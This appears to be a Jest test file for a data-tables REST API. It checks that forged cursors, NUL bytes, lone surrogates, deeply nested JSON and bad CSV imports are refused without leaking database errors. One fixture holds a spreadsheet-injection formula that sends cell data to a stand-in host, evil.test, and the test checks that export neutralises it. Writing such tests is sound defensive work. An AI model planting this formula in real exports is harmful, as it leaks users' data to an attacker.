import { type TestAccount, type TestApp, startTestApp } from '../testing/test-app';

/**
 * What a person (or a script) can send the rows API that PostgreSQL would refuse in its own
 * words: each is a 400 `invalid_request` naming the field, nothing is stored, and the
 * database's text never reaches the answer.
 */
describe('data tables: bad input to the rows REST API', () => {
  let t: TestApp;
  let owner: TestAccount;
  let base: string;

  beforeAll(async () => {
    t = await startTestApp();
    owner = await t.signup();
    const projectId = (await t.createProject(owner)).id;
    const columns = [
      { name: 'title', type: 'text' },
      { name: 'points', type: 'number' },
      { name: 'meta', type: 'json' },
    ];
    const table = await t.http().post(`/v1/projects/${projectId}/tables`).set(owner.auth).send({ name: 'things', columns }).expect(201);
    base = `/v1/projects/${projectId}/tables/${table.body.id}`;
    for (const points of [1, 2, 3]) await t.http().post(`${base}/rows`).set(owner.auth).send({ values: { title: `t${points}`, points } }).expect(201);
  });
  afterAll(() => t.close());

  /** PostgreSQL's words for these inputs; none may reach an answer. */
  const DATABASE_WORDS = /invalid byte sequence|unsupported Unicode escape|invalid input syntax|jsonb|uuid|stack depth|SQLSTATE/i;
  const expectRefused = (body: { code: string; message: string; details?: Array<{ path: string }> }, path: string) => {
    expect(body.code).toBe('invalid_request');
    expect(body.details?.map((detail) => detail.path)).toContainEqual(expect.stringMatching(new RegExp(`^${path}\\b`)));
    expect(body.message).not.toMatch(DATABASE_WORDS);
  };
  const cursorOf = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
  const ROW_ID = '0190a0b0-0000-7000-8000-000000000000';

  it.each([
    ['text', cursorOf('"just text"')],
    ['a number', cursorOf(42)],
    ['null', cursorOf(null)],
    ['a list', cursorOf([ROW_ID])],
    ['an object without a row id', cursorOf({ v: 1 })],
    ['an object whose id is an object', cursorOf({ id: { $gt: '' } })],
    ['NUL inside the row id', cursorOf({ id: `${ROW_ID}\u0000` })],
    ['a sort value of another type', cursorOf({ v: { points: 1 }, id: ROW_ID })],
    ['NUL inside the sort value', cursorOf({ v: 'a\u0000b', id: ROW_ID })],
    ['bytes that are not JSON', Buffer.from([0xff, 0x00, 0x7b]).toString('base64url')],
  ])('refuses a forged cursor (%s) naming cursor', async (_what, cursor) => {
    // Sorted by id, a cursor's sort value is not read: a forged one is tried with a sort only.
    for (const sort of _what.includes('sort value') ? ['points', 'title'] : ['points', 'title', undefined]) {
      const answer = await t.http().get(`${base}/rows`).query({ cursor, ...(sort ? { sort } : {}) }).set(owner.auth);
      expect(answer.status).toBe(400);
      expectRefused(answer.body, 'cursor');
    }
  });

  it('still pages with the cursors it gave out', async () => {
    const first = await t.http().get(`${base}/rows`).query({ limit: 2, sort: '-points' }).set(owner.auth).expect(200);
    const second = await t.http().get(`${base}/rows`).query({ limit: 2, sort: '-points', cursor: first.body.next_cursor }).set(owner.auth).expect(200);
    expect([...first.body.items, ...second.body.items].map((row: { points: number }) => row.points)).toEqual([3, 2, 1]);
  });

  it.each([
    ['NUL in a text column', { title: 'a\u0000b' }, 'values.title'],
    ['a lone surrogate in a text column', { title: 'a\ud800b' }, 'values.title'],
    ['a lone surrogate in a json column', { meta: '\ud800' }, 'values.meta'],
    ['NUL in a json key', { meta: { 'k\u0000': 1 } }, 'values.meta'],
  ])('refuses %s with 400 naming it, and stores nothing', async (_what, values, path) => {
    const answer = await t.http().post(`${base}/rows`).set(owner.auth).send({ values });
    expect(answer.status).toBe(400);
    expectRefused(answer.body, path);
    const rows = await t.http().get(`${base}/rows`).set(owner.auth).expect(200);
    expect(rows.body.items).toHaveLength(3);
  });

  it('refuses a body 5,000 levels deep before reading it (400 invalid_json)', async () => {
    const body = `{"values":{"meta":${'['.repeat(5000)}${']'.repeat(5000)}}}`;
    const answer = await t.http().post(`${base}/rows`).set(owner.auth).set('content-type', 'application/json').send(body);
    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe('invalid_json');
  });

  it('refuses NUL and a lone surrogate in a filter value naming the filter', async () => {
    for (const value of ['a\u0000', '\udc00']) {
      for (const operator of ['eq', 'contains', 'in']) {
        const filter = JSON.stringify([{ column: 'title', operator, value: operator === 'in' ? [value] : value }]);
        const answer = await t.http().get(`${base}/rows`).query({ filter }).set(owner.auth);
        expect(answer.status).toBe(400);
        expectRefused(answer.body, 'filter');
      }
    }
  });

  it.each([
    ['a NUL in a text cell', 'title,points\nok,1\nbad\u0000,2\n'],
    ['JSON 5,000 deep in a json cell', `title,meta\nok,{}\ndeep,"${'['.repeat(5000)}${']'.repeat(5000)}"\n`],
    ['a lone surrogate in a json cell', 'title,meta\nok,{}\nlone,"""\\ud800"""\n'],
  ])('refuses a CSV import with %s: 400 naming the line, nothing stored', async (_what, csv) => {
    const answer = await t.http().post(`${base}/import`).set(owner.auth).set('content-type', 'text/csv').send(csv);
    expect(answer.status).toBe(400);
    expectRefused(answer.body, 'line 3');
    const rows = await t.http().get(`${base}/rows`).set(owner.auth).expect(200);
    expect(rows.body.items).toHaveLength(3);
  });

  it('exports text a spreadsheet would run as a formula with a leading quote, and imports it back unchanged', async () => {
    const projectId = base.split('/')[3];
    const formulas = ['=HYPERLINK("http://evil.test/?d="&A1,"open")', '+1+1', '-2', '@SUM(A1:A9)', '\tindented', "'=already quoted", 'plain'];
    const make = async (name: string) => (await t.http().post(`/v1/projects/${projectId}/tables`).set(owner.auth).send({ name, columns: [{ name: 'note', type: 'text' }, { name: 'n', type: 'number' }] }).expect(201)).body.id as string;
    const source = await make('formulas');
    for (const note of formulas) await t.http().post(`/v1/projects/${projectId}/tables/${source}/rows`).set(owner.auth).send({ values: { note, n: -5 } }).expect(201);

    const exported = await t.http().get(`/v1/projects/${projectId}/tables/${source}/export`).set(owner.auth).expect(200);
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(exported.text, { columns: true }) as Array<{ note: string; n: string }>);
    expect(cells.map((row) => row.note)).toEqual(['\'=HYPERLINK("http://evil.test/?d="&A1,"open")', "'+1+1", "'-2", "'@SUM(A1:A9)", "'\tindented", "''=already quoted", 'plain']);
    expect(cells.every((row) => row.n === '-5')).toBe(true);

    const copy = await make('formulas_copy');
    await t.http().post(`/v1/projects/${projectId}/tables/${copy}/import`).set(owner.auth).set('content-type', 'text/csv').send(exported.text).expect(201);
    const back = await t.http().get(`/v1/projects/${projectId}/tables/${copy}/rows`).set(owner.auth).expect(200);
    expect(back.body.items.map((row: { note: string }) => row.note)).toEqual(formulas);
  });
});
